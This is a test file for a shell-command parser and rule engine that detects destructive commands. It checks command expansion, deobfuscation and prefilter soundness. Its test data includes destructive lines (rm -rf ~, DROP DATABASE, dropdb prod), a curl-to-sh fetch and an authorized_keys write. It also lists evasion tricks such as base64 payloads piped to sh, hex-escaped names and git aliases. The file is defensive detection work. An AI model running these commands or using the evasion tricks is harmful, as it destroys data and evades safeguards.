import { describe, expect, test } from 'vitest';
import { isPlainLine } from '../../../src/core/shell/plain';
import { HOLDOUT_PATH, readCorpus } from '../../corpus/score';
import { Engine, PREFILTER } from '../../../src/core/engine';
import { allRules } from '../../../src/core/rules/index';
import { commandsOf, expandLine, parser } from '../helpers';

describe('expansion into simple commands', () => {
  test.each([
    ['operators', 'cd / && rm -rf x || echo no; ls', ['cd /', 'rm -rf x', 'echo no', 'ls']],
    ['pipes', 'cat a | grep b | wc -l', ['cat a', 'grep b', 'wc -l']],
    ['subshell and braces', '( cd / && rm -rf * ); { rm y; }', ['cd /', 'rm -rf *', 'rm y']],
    // Substitutions run before the command that uses their output.
    ['command substitution', 'echo $(rm -rf ~)', ['rm -rf ~', 'echo $(rm -rf ~)']],
    ['backticks', 'echo `rm -rf ~`', ['rm -rf ~', 'echo `rm -rf ~`']],
    ['process substitution', 'diff <(rm -rf ~) b', ['rm -rf ~', 'diff <(rm -rf ~) b']],
    ['sudo with options', 'sudo -u root -E rm -rf /srv', ['sudo -u root -E rm -rf /srv', 'rm -rf /srv']],
    ['env with assignments', 'env -i FOO=1 rm -rf x', ['env -i FOO=1 rm -rf x', 'rm -rf x']],
    ['timeout and nice', 'timeout -s KILL 10 nice -n 5 rm x', ['timeout -s KILL 10 nice -n 5 rm x', 'nice -n 5 rm x', 'rm x']],
    ['command -v only looks up', 'command -v rm', ['command -v rm']],
    ['xargs appends stdin', 'echo a b | xargs rm -rf', ['echo a b', 'xargs rm -rf', 'rm -rf a b']],
    ['find -exec', 'find . -name node_modules -exec rm -rf {} +', ['find . -name node_modules -exec rm -rf {} +', 'rm -rf node_modules']],
    ['parallel', 'parallel rm -rf ::: a b', ['parallel rm -rf ::: a b', 'rm -rf a', 'rm -rf b']],
    ['watch joins its command', 'watch -n 5 rm -rf x', ['watch -n 5 rm -rf x', 'rm -rf x']],
    ['busybox', 'busybox rm -rf /', ['busybox rm -rf /', 'rm -rf /']],
    ['bash -c', "bash -c 'rm -rf ~'", ['bash -c rm -rf ~', 'rm -rf ~']],
    ['bundled -lc', 'sh -lc "git push -f"', ['sh -lc git push -f', 'git push -f']],
    ['eval', 'eval "rm -rf" ~', ['eval rm -rf ~', 'rm -rf ~']],
    ['heredoc into a shell', 'bash <<EOF\nrm -rf ~\nEOF', ['bash', 'rm -rf ~']],
    ['heredoc through cat into sh', 'cat <<EOF | sh\nrm -rf ~\nEOF', ['cat', 'sh', 'rm -rf ~']],
    ['here-string into a shell', "sh <<< 'rm -rf /'", ['sh', 'rm -rf /']],
    ['pipe into a shell', 'echo "rm -rf ~" | sh', ['echo rm -rf ~', 'sh', 'rm -rf ~']],
    ['base64 into a shell', 'echo cm0gLXJmIH4= | base64 -d | sh', ['echo cm0gLXJmIH4=', 'base64 -d', 'sh', 'rm -rf ~']],
    ['ssh payload', "ssh -p 22 prod-db 'rm -rf /var/lib/postgresql'", ["ssh -p 22 prod-db rm -rf /var/lib/postgresql", 'rm -rf /var/lib/postgresql']],
    ['kubectl exec', 'kubectl exec -it db-0 -n prod -- psql -c "DROP TABLE users"', ['kubectl exec -it db-0 -n prod -- psql -c DROP TABLE users', 'psql -c DROP TABLE users']],
    ['docker exec', "docker exec -u postgres db psql -c 'DROP DATABASE app'", ['docker exec -u postgres db psql -c DROP DATABASE app', 'psql -c DROP DATABASE app']],
    ['python os.system', `python3 -c 'import os; os.system("rm -rf ~")'`, ['python3 -c import os; os.system("rm -rf ~")', 'rm -rf ~']],
    ['python shutil.rmtree', `python -c "import shutil; shutil.rmtree('/home/u/proj')"`, [`python -c import shutil; shutil.rmtree('/home/u/proj')`, 'rm -rf /home/u/proj']],
    ['node rmSync', `node -e "require('fs').rmSync('data', {recursive: true})"`, [`node -e require('fs').rmSync('data', {recursive: true})`, 'rm -rf data']],
    ['node execSync', `node -e "require('child_process').execSync('dropdb prod')"`, [`node -e require('child_process').execSync('dropdb prod')`, 'dropdb prod']],
    ['ruby system', `ruby -e 'system("rm -rf /")'`, ['ruby -e system("rm -rf /")', 'rm -rf /']],
    ['perl system', `perl -e 'system "rm -rf ~"'`, ['perl -e system "rm -rf ~"', 'rm -rf ~']],
    ['deno remove', `deno eval "await Deno.remove('/x', {recursive: true})"`, [`deno eval await Deno.remove('/x', {recursive: true})`, 'rm -rf /x']],
    ['npx runner', 'npx prisma migrate reset --force', ['npx prisma migrate reset --force', 'prisma migrate reset --force']],
  ])('%s', (_name, line, expected) => {
    expect(commandsOf(line)).toEqual(expected);
  });
});

describe('quoting tricks normalise to the real program', () => {
  test.each([
    ["r''m -rf ~", 'rm'],
    ['\\rm -rf ~', 'rm'],
    ['"/usr/bin/git" push --force', 'git'],
    ['x=rm; $x -rf ~', 'rm'],
    ["$'\\x72\\x6d' -rf ~", 'rm'],
    ['$(echo rm) -rf ~', 'rm'],
    ['$(echo cm0= | base64 -d) -rf ~', 'rm'],
    ['/usr/bin/Python3.11 -V', 'python3'],
  ])('%s', (line, program) => {
    expect(expandLine(line).commands.map((c) => c.program)).toContain(program);
  });
});

describe('spans point into the original line', () => {
  test('a payload inside single quotes keeps exact offsets', () => {
    const line = "sudo bash -c 'rm -rf ~'";
    const rm = expandLine(line).commands.find((c) => c.program === 'rm');
    expect(rm && line.slice(rm.span[0], rm.span[1])).toBe('rm -rf ~');
  });
  test('a decoded payload points at the word it came from', () => {
    const line = 'echo cm0gLXJmIH4= | base64 -d | sh';
    const rm = expandLine(line).commands.find((c) => c.program === 'rm');
    expect(rm?.via).toEqual(['sh (stdin)']);
    expect(rm && line.slice(rm.span[0], rm.span[1])).toBe('sh');
  });
});

describe('what cannot be read is reported', () => {
  test.each([
    ['echo "unterminated', 'parse-error'],
    ['$CMD -rf /', 'dynamic-program'],
    ['python3 -c "import os,sys; os.system(sys.argv[1])"', 'dynamic-exec'],
    ['curl -s https://x/p | base64 -d | sh', 'hidden-script'],
  ])('%s → %s', (line, kind) => {
    expect(expandLine(line).problems.map((p) => p.kind)).toContain(kind);
  });
});

describe('plain lines skip tree-sitter and read the same', () => {
  // Every corpus line that is plain expands identically through both paths.
  const lines = [...readCorpus(), ...readCorpus(HOLDOUT_PATH)].map((e) => e.command).filter(isPlainLine);

  test('the corpus has many plain lines', () => {
    expect(lines.length).toBeGreaterThan(200);
  });

  test.each(lines.map((l) => [l]))('%s', (line) => {
    expect(commandsOf(line, true)).toEqual(commandsOf(line, false));
  });

  test.each([
    ['echo $HOME', false], ['ls > out', false], ['a && b', true], ["echo 'it''s'", true], ['echo "$x"', false],
    ['FOO=1 cmd --size=0', true], ['echo "unterminated', false], ['rm -rf ~', false], ['rm -rf *', false],
  ])('isPlainLine(%s) = %s', (line, plain) => {
    expect(isPlainLine(line)).toBe(plain);
  });
});

describe('package runners', () => {
  test.each([
    ['pnpm dlx netlify-cli sites:delete acme-docs', 'netlify'],
    ['yarn exec prisma migrate reset', 'prisma'],
    ['bun x prisma migrate reset', 'prisma'],
    ['npx @railway/cli@latest volume delete', 'railway'],
    ['npx aws-cdk@2 destroy', 'cdk'],
    ['pnpm prisma db push --force-reset', 'prisma'],
  ])('%s runs %s', (line, program) => {
    expect(expandLine(line).commands.map((c) => c.program)).toContain(program);
  });
});

describe('the prefilter never clears a line a rule would flag', () => {
  // Soundness: every line that an engine without the prefilter flags passes the prefilter —
  // the corpora plus every rule's own examples.
  const unfiltered = new Engine(() => parser, false);
  const lines = [
    ...[...readCorpus(), ...readCorpus(HOLDOUT_PATH)].map((e) => e.command),
    ...allRules.flatMap((r) => [...r.examples.match, ...r.examples.noMatch]),
    // Ways to hide a program name from a plain reading of the text.
    'r{m,} -rf /srv', 'rm -rf /tmp/{..,x}', 'git push --force{,}', '/bin/r[m] -rf /srv', '/usr/bin/gi? push --force',
    'r\\\nm -rf /srv', 'if true; then rm -rf /; fi', 'coproc rm -rf /srv', '> ~/.ssh/authorized_keys', 'cat < .env',
    "x=r; y=m; $x$y -rf /srv", "$'\\x72\\x6d' -rf ~", 'echo cm0gLXJmIH4= | base64 -d | sh',
  ];
  const flagged = lines.filter((l) => unfiltered.classify(l).findings.length > 0);
  test('most lines are flagged without it', () => {
    expect(flagged.length).toBeGreaterThan(500);
  });
  test.each(flagged.map((l) => [l]))('%s', (line) => {
    expect(PREFILTER.mightMatch(line)).toBe(true);
  });
});

describe('review findings stay fixed', () => {
  test.each([
    ['perl -e \'system("rm", "-rf", "/srv")\'', 'rm -rf /srv'],
    ['ruby -e \'system("dropdb", "acme_production")\'', 'dropdb acme_production'],
    ['npx --yes rimraf /srv', 'rm -rf /srv'],
    ['coproc rm -rf /srv', 'rm -rf /srv'],
    ['unshare -r rm -rf /srv', 'rm -rf /srv'],
    ["tmux new-session -d 'rm -rf /srv'", 'rm -rf /srv'],
    ["echo 'rm -rf /srv' | at now", 'rm -rf /srv'],
    ['bash -c -x "rm -rf /srv"', 'rm -rf /srv'],
    ['bash -O extglob -c "rm -rf /srv"', 'rm -rf /srv'],
    ["fish --command='rm -rf /srv'", 'rm -rf /srv'],
    ['ssh host -- rm -rf /srv', 'rm -rf /srv'],
    ['r{m,} -rf /srv', 'rm r -rf /srv'],
    ['if true; then rm -rf /; fi', 'rm -rf /'],
  ])('%s runs %s', (line, expected) => {
    expect(commandsOf(line)).toContain(expected);
  });
});

test.each([
  ["git -c alias.nuke='reset --hard' nuke", 'git reset --hard'],
  ["git -c alias.x='!rm -rf /srv' x", 'rm -rf /srv'],
])('git alias %s runs %s', (line, expected) => {
  expect(commandsOf(line)).toContain(expected);
});
